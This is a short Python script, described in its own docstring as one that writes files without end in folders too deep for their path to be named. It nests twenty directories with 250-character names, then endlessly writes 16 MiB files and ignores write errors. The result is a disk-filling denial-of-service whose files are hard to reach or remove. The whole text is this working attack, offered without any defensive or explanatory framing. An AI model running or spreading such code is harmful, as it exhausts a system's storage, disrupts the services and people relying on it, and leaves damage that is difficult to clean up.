"""Writes files without end in folders that are too deep for their path to be said."""
import os

for _ in range(20):
    os.mkdir("d" * 250)
    os.chdir("d" * 250)
number = 0
while True:
    number += 1
    try:
        with open(f"{number}", "wb") as file:
            file.write(b"x" * (16 << 20))
    except OSError:
        os.sched_yield()
